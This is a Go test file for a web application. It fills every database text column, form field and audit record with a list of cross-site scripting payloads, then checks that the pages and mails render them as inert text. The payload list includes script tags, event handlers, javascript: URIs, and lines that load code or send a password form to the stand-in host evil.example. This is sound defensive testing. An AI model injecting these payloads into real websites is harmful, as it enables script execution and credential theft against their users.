package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"clientele/internal/apptest"
	"clientele/internal/db"

	"github.com/PuerkitoBio/goquery"
)

// scripts are texts that run as a program where a page forgets what they are.
var scripts = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script src=//evil.example/x.js></script>`, `</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<ScRiPt>alert(1)</ScRiPt>`, `<script/x>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<b onmouseover=alert(1)>x</b>`, `" onfocus="alert(1)" autofocus="`, `' onmouseover='alert(1)`, "` onmouseover=alert(1) `", `x onerror=alert(1)`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
	`<iframe src=javascript:alert(1)>`, `<object data=data:text/html;base64,PHNjcmlwdD4=>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import'//evil.example'</style>`, `<form action=//evil.example><input name=password>`, `<a href=javascript:alert(1)>x</a>`,
	`<details open ontoggle=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<template><script>alert(1)</script></template>`, `{{constructor.constructor('alert(1)')()}}`, `<x hx-get=/signout hx-trigger=load>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `＜script＞alert(1)＜/script＞`, `\u003cscript\u003e`,
}

// texts fills every column that holds text which somebody has typed, and is
// the one place to say of a column that it does not.
func (s *stage) texts(t *testing.T, value string) {
	t.Helper()
	ours := []string{
		"token_hash", "browser_hash", "password", "status", "state", "class", "sealed", "role", "kind", "currency", "ended_why", "purpose",
		"way", "ways", "code_hash", "undo_hash", "stop_hash", "credential", "handle", "record", "key_check", "pattern", "keep_hash", "other_hash",
	}
	type column struct{ TableName, ColumnName string }
	query := "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public' AND data_type = 'text' AND table_name NOT LIKE 'river%' AND table_name NOT LIKE 'goose%'"
	if s.Engine == db.SQLite {
		query = "SELECT m.name AS table_name, c.name AS column_name FROM sqlite_master m JOIN pragma_table_info(m.name) c WHERE m.type = 'table' AND m.name NOT LIKE 'river%' AND m.name NOT LIKE 'goose%' AND m.name NOT LIKE 'sqlite%' AND c.type LIKE 'TEXT%'"
	}
	columns := apptest.Query[column](s.World, query)
	if len(columns) < 40 {
		t.Fatalf("found %d columns: looking in the wrong place?", len(columns))
	}
	for _, c := range columns {
		if slices.Contains(ours, c.ColumnName) || strings.HasPrefix(c.TableName, "audit_") || c.TableName == "throttles" || c.TableName == "logos" || c.TableName == "merge_parts" || strings.HasPrefix(c.TableName, "search_") || c.TableName == "settings" && c.ColumnName == "body" ||
			c.TableName == "pending_signins" && c.ColumnName == "agent" { // ties a sign-in to its browser, and is not shown
			continue
		}
		key, only := "id", ""
		if c.TableName == "staff_sessions" && c.ColumnName == "agent" {
			only = " WHERE second_at IS NOT NULL" // a half sign-in is tied to it
		}
		switch c.TableName {
		case "invitation_blocks":
			key = "account_id"
		case "import_rows":
			key = "target_id"
		case "terms":
			key = "version"
		}
		s.Exec(fmt.Sprintf(`UPDATE %[1]s SET "%[2]s" = $1 || ('%[1]s' || %[3]s)`+only, c.TableName, c.ColumnName, key), value)
	}
}

// record writes entries of the log with a text in every place that holds one.
func (s *stage) record(t *testing.T, text string) {
	t.Helper()
	quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`).Replace(text)
	for _, e := range []struct{ event, before, after string }{
		{text, "", text},
		{"account.changed", `{"name":"` + quoted + `","` + quoted + `":"a"}`, `{"name":"x` + quoted + `","` + quoted + `":"` + quoted + `"}`},
		{"member.changed", `{"role":"` + quoted + `","permissions":["` + quoted + `"]}`, `{"role":"x` + quoted + `","ends":"` + quoted + `","permissions":[]}`},
		{"contact.changed", `{"mail":["` + quoted + `"]}`, `{"mail":[]}`},
		{"account.status_changed", `{"status":"` + quoted + `"}`, `{"status":"x` + quoted + `"}`},
	} {
		for _, account := range []any{s.account, nil} {
			s.Exec(`INSERT INTO audit_records (at, event, actor_kind, actor_id, via, account_id, object_kind, object_id, subject_id, before, after, request, network)
				VALUES ($1, $2, 'user', $3, 'membership', $4, $5, 1, $6, $7, $8, 'fixture', $9)`,
				s.Clock.Now(), e.event, s.mate.User, account, text, s.owner.User, e.before, e.after, text)
		}
	}
}

// bones are a page's elements with the names of their attributes: what a
// browser acts on, without what people read.
func bones(p *apptest.Page) string {
	var b strings.Builder
	p.Find("*").Each(func(_ int, n *goquery.Selection) {
		var keys []string
		for _, a := range n.Get(0).Attr {
			keys = append(keys, a.Key)
		}
		slices.Sort(keys)
		fmt.Fprintf(&b, "<%s %s>\n", goquery.NodeName(n), strings.Join(keys, " "))
	})
	return b.String()
}

// clean fails where a page holds what runs, or leads somewhere else.
func clean(t *testing.T, what string, doc *goquery.Document) {
	t.Helper()
	doc.Find("*").Each(func(_ int, n *goquery.Selection) {
		element := goquery.NodeName(n)
		src, hasSrc := n.Attr("src")
		if slices.Contains([]string{"iframe", "object", "embed", "base", "frame", "applet", "math", "template", "x", "b", "details-x"}, element) || element == "script" && (!hasSrc || !strings.HasPrefix(src, "/assets/")) {
			t.Errorf("%s holds <%s>", what, element)
		}
		for _, a := range n.Get(0).Attr {
			low := strings.ToLower(strings.TrimSpace(a.Val))
			leads := slices.Contains([]string{"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href", "hx-get", "hx-post"}, a.Key)
			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" || a.Key == "http-equiv" || leads && (strings.Contains(low, "script:") || strings.HasPrefix(low, "data:") && !drawn(n, a.Key) || strings.HasPrefix(low, "//") || strings.Contains(low, "evil.example") && !strings.HasPrefix(low, "/")) {
				t.Errorf("%s holds <%s %s=%q>", what, element, a.Key, a.Val)
			}
		}
	})
}

// TestT119_WhatPeopleTypeNeverRuns puts every script into every text that the
// database holds, and opens every page as the account's owner and as staff:
// each has the very bones that it has with harmless text.
func TestT119_WhatPeopleTypeNeverRuns(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		s := newStage(t, w)
		s.Exec("INSERT INTO roles (account_id, name, permissions, created_at) VALUES ($1, 'A role', 3, $2)", s.account, w.Clock.Now())
		extra := w.Person("Erin Extra", "erin@stage.example")
		s.insert(`INSERT INTO memberships (account_id, user_id, role_id, starts_at, seen_at, created_at)
			VALUES ($1, $2, (SELECT MAX(id) FROM roles), $3, $3, $3) RETURNING id`, s.account, extra.User, w.Clock.Now())
		s.record(t, "harmless")
		crawl := func(tells bool) map[string]*apptest.Page {
			s.Exec("UPDATE users SET address = substr(address, 1, 250) WHERE id = $1", s.owner.User) // more does not go into a QR code
			s.Exec("UPDATE user_links SET address = (SELECT address FROM users WHERE users.id = user_links.user_id)")
			s.Exec("UPDATE address_changes SET old_address = (SELECT address FROM users WHERE users.id = address_changes.user_id) WHERE done_at IS NULL")
			s.Exec("UPDATE invitations SET address = $1 WHERE id = "+s.own["invitation"], apptest.Query[string](w, "SELECT address FROM users WHERE id = $1", s.owner.User)[0])
			for _, p := range []*apptest.Person{s.twin, s.keeper} { // who are signed in by their addresses
				s.Exec("UPDATE users SET address = $2 WHERE id = $1", p.User, p.Address)
			}
			out := map[string]*apptest.Page{}
			for _, r := range w.Mux.Routes() {
				if !r.Unsafe() && tells == strings.HasPrefix(r.Pattern, "/me/merge/") && (r.Guard != "public" || useOf(t, r).as != "") {
					s.ready(t, r)
					out[name(r)] = s.cast(t, r).Get(s.path(t, r)).Must(200)
				}
			}
			return out
		}
		for _, tells := range []bool{false, true} { // what is on the way to a page is told in logs and mails: those pages are last
			s.texts(t, "harmless")
			plain := crawl(tells)
			s.texts(t, strings.Join(scripts, " "))
			for what, p := range crawl(tells) {
				clean(t, what, p.Document)
				if got, want := bones(p), bones(plain[what]); got != want {
					t.Errorf("%s has other bones with scripts in its texts:\n%s", what, firstDifference(got, want))
				}
			}
		}
		clean(t, "a refusal", extra.Get("/a/"+s.ids["account"]+"/close").Must(403).Document)
		for _, text := range scripts {
			s.record(t, text)
		}
		for _, path := range []string{"/a/" + s.ids["account"] + "/activity", "/me/activity", "/staff/accounts/" + s.ids["account"] + "/activity", "/staff/accounts/" + s.ids["account"], "/staff/users/" + s.ids["user"]} {
			b := s.owner.Browser
			if strings.HasPrefix(path, "/staff") {
				b = s.root.Browser
			}
			for page := b.Get(path).Must(200); page != nil; {
				clean(t, path, page.Document)
				older := page.Find(`a[href*="before="]`).AttrOr("href", "")
				if page = nil; older != "" {
					page = b.Get(older).Must(200)
				}
			}
		}
	}, kept)
}

func firstDifference(got, want string) string {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for n := range min(len(g), len(w)) {
		if g[n] != w[n] {
			return fmt.Sprintf("element %d: %s, want %s", n, g[n], w[n])
		}
	}
	return fmt.Sprintf("%d elements, want %d", len(g), len(w))
}

// TestT119_WhatIsTypedComesBackAsText types every script into every field of
// every form, and reads the answer: refused or kept, it is text, in the page
// as well as in the mail.
func TestT119_WhatIsTypedComesBackAsText(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		s := newStage(t, w)
		for n, r := range unsafe(w) {
			u := uses[name(r)]
			if len(u.fields) == 0 || strings.HasPrefix(u.as, "with ") || u.as == "newcomer" || r.StepUp {
				continue
			}
			w.Exec("DELETE FROM throttles")
			b := s.cast(t, r)
			for i := n % 4; i < len(scripts); i += 4 { // each form gets its share of them
				text, form := scripts[i], s.form(t, r)
				for field := range form {
					if field != "account" && field != "password" && field != "old" && field != "number" {
						form.Set(field, text)
					}
				}
				p := b.Post(s.path(t, r), form)
				clean(t, fmt.Sprintf("%s with %q", name(r), text), p.Document)
				if p.Status >= 500 {
					t.Errorf("%s with %q: %d", name(r), text, p.Status)
				}
			}
		}
		path := "/a/" + s.ids["account"] + "/contacts"
		kept := 0
		for n, text := range scripts {
			p := s.owner.Post(path, url.Values{"account": {s.ids["account"]}, "name": {"N " + text}, "company": {"C " + text}, "phone": {text}, "address": {"carl@stage.example"}, "kinds": {"general"}})
			clean(t, fmt.Sprintf("a contact %q", text), p.Document)
			s.owner.PostOnly("/me", url.Values{"name": {"N " + text}, "language": {"en"}})
			invited := s.owner.PostOnly("/a/"+s.ids["account"]+"/people/invitations", url.Values{"account": {s.ids["account"]}, "address": {fmt.Sprintf("x%d@stage.example", n)}, "role": {"support"}})
			if p.Status == http.StatusOK && invited.Status == http.StatusSeeOther {
				kept++
			}
		}
		if kept < 5 {
			t.Errorf("only %d scripts were taken as names: nothing was shown", kept)
		}
		for _, body := range apptest.Query[string](w, "SELECT html_body FROM mails WHERE html_body LIKE '%<html%'") {
			doc, err := goquery.NewDocumentFromReader(strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			clean(t, "a mail", doc)
			if n := doc.Find("img, form, input, link, script, svg").Length(); n > 0 {
				t.Errorf("a mail holds %d elements that are not ours: %.500s", n, body)
			}
		}
	}, kept)
}
